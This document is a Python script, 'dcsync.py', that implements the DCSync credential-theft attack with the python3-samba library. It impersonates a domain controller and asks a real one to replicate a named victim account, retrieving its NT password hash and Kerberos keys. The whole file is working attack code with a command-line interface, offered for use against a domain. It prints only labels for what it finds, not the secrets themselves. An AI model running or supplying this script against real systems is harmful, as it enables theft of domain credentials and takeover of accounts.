#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""dcsync.py - the attack of that name (MITRE T1003.006), by Debian's python3-samba: asks a domain controller to replicate an
account's secrets, as if this host were a domain controller.

    dcsync.py CONTROLLER USER PASSWORD VICTIM
"""
import sys

from samba.credentials import Credentials, DONT_USE_KERBEROS
from samba.dcerpc import drsuapi, misc, security
from samba.drs_utils import drs_DsBind
from samba.param import LoadParm


def main():
    controller, user, password, victim = sys.argv[1:]
    lp = LoadParm()
    lp.set("realm", "CORP.EXAMPLE")
    credentials = Credentials()
    credentials.guess(lp)
    credentials.set_username(user)
    credentials.set_domain("CORP")
    credentials.set_password(password)
    credentials.set_kerberos_state(DONT_USE_KERBEROS)
    drs = drsuapi.drsuapi("ncacn_ip_tcp:%s[seal]" % controller, lp, credentials)
    handle, _ = drs_DsBind(drs)

    names = drsuapi.DsNameString()
    names.str = "CORP\\" + victim
    crack = drsuapi.DsNameRequest1()
    crack.format_offered = drsuapi.DRSUAPI_DS_NAME_FORMAT_NT4_ACCOUNT
    crack.format_desired = drsuapi.DRSUAPI_DS_NAME_FORMAT_GUID
    crack.count, crack.names = 1, [names]
    _, cracked = drs.DsCrackNames(handle, 1, crack)
    guid = cracked.array[0].result_name.strip("{}")

    source = drsuapi.DsReplicaObjectIdentifier()
    source.guid, source.sid, source.dn = misc.GUID(guid), security.dom_sid("S-0-0"), ""
    request = drsuapi.DsGetNCChangesRequest8()
    request.naming_context = source
    request.destination_dsa_guid = request.source_dsa_invocation_id = misc.GUID("4a0f5b9e-0000-4000-8000-000000000001")
    request.highwatermark = drsuapi.DsReplicaHighWaterMark()
    request.uptodateness_vector = None
    request.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
    request.max_object_count, request.max_ndr_size = 1, 0
    request.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    level, answer = drs.DsGetNCChanges(handle, 8, request)
    if answer.object_count < 1:
        sys.exit("dcsync: nothing came (level %d)" % level)
    secrets = {drsuapi.DRSUAPI_ATTID_unicodePwd: "its NT hash", drsuapi.DRSUAPI_ATTID_supplementalCredentials: "its Kerberos keys"}
    found = [secrets[a.attid] for a in answer.first_object.object.attribute_ctr.attributes if a.attid in secrets]
    print("%s: %s" % (victim, ", ".join(found) or "no secrets"))


if __name__ == "__main__":
    main()
